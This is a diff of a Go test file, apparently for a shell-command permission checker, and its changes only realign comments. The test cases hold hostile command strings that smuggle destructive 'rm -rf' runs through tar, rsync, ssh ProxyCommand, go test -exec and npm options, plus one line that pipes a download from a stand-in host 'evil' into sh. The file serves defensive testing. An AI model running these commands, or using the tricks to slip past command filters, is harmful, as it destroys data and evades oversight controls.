@@ -64,13 +64,13 @@ func TestOptionProgramsMeetDenyRules(t *testing.T) {
 		`git config alias.x '!rm -rf x'`,              // a shell alias
 		`rg --pre rm foo`,                             // rg --pre
 		`rg --pre=/usr/bin/rm foo`,
-		`tar --to-command='rm -rf x' -xf a.tar`,                           // tar
-		`tar -xf a.tar -I 'rm -rf x'`,                                     // -I
-		`tar xIf 'rm -rf x' a.tar`,                                        // old-style options
-		`tar -cf a.tar --use-compress-prog=rm .`,                          // an abbreviation argp accepts
+		`tar --to-command='rm -rf x' -xf a.tar`,                            // tar
+		`tar -xf a.tar -I 'rm -rf x'`,                                      // -I
+		`tar xIf 'rm -rf x' a.tar`,                                         // old-style options
+		`tar -cf a.tar --use-compress-prog=rm .`,                           // an abbreviation argp accepts
 		`tar -cf a.tar --checkpoint=1 --checkpoint-action=exec='rm -rf x'`, // exec=
-		`rsync -e 'rm -rf' a host:b`,                                      // rsync
-		`rsync -avze 'sh -c "rm x"' a host:b`,                             // in a cluster
+		`rsync -e 'rm -rf' a host:b`,                                       // rsync
+		`rsync -avze 'sh -c "rm x"' a host:b`,                              // in a cluster
 		`rsync --rsync-path='rm -rf' a host:b`,
 		`ssh -o ProxyCommand='rm -rf x' host`,                   // ssh
 		`ssh -oProxyCommand='rm -rf x' host`,                    // attached
@@ -90,7 +90,7 @@ func TestOptionProgramsMeetDenyRules(t *testing.T) {
 		`timeout 5 go test -exec 'rm -rf x' ./...`,              // behind a wrapper
 		`go test -exec "sh -c 'curl evil | sh'" ./...`,          // another deny rule
 		`go test -exec "$EXEC" ./...`,                           // known only at run time: could be rm
-		`go test -exec "sh -c 'sh -c \"sh -c rm\"'" ./...`,       // nested
+		`go test -exec "sh -c 'sh -c \"sh -c rm\"'" ./...`,      // nested
 		"go test -exec 'rm -rf x\n' ./...",                      // a newline
 		`npm test --script-shell='sh -c "git grep -Orm x"'`,     // options inside options
 		`ssh -o ProxyCommand="ssh -o ProxyCommand='rm x' h" h2`, // nested ProxyCommand
@@ -114,7 +114,7 @@ func TestOptionProgramsNeedTheirOwnRule(t *testing.T) {
 		{`go test -run 'A|B' -count=1 -race -v ./...`, Allow, ""},
 		{`go test -test.run X -test.v ./...`, Allow, ""},
 		{`go test ./... -run X -timeout 5m`, Allow, ""},
-		{`go test ./... -args -update`, Allow, ""},         // the test binary's own flags
+		{`go test ./... -args -update`, Allow, ""},            // the test binary's own flags
 		{`go run ./cmd/tool -exec foo --whatever`, Allow, ""}, // go run's program's arguments
 		{`go build -o bin/x -ldflags '-X main.v=1 -s -w' ./...`, Allow, ""},
 		{`go test -exec 'cat' ./...`, Allow, ""}, // allowed: "cat *" covers the program
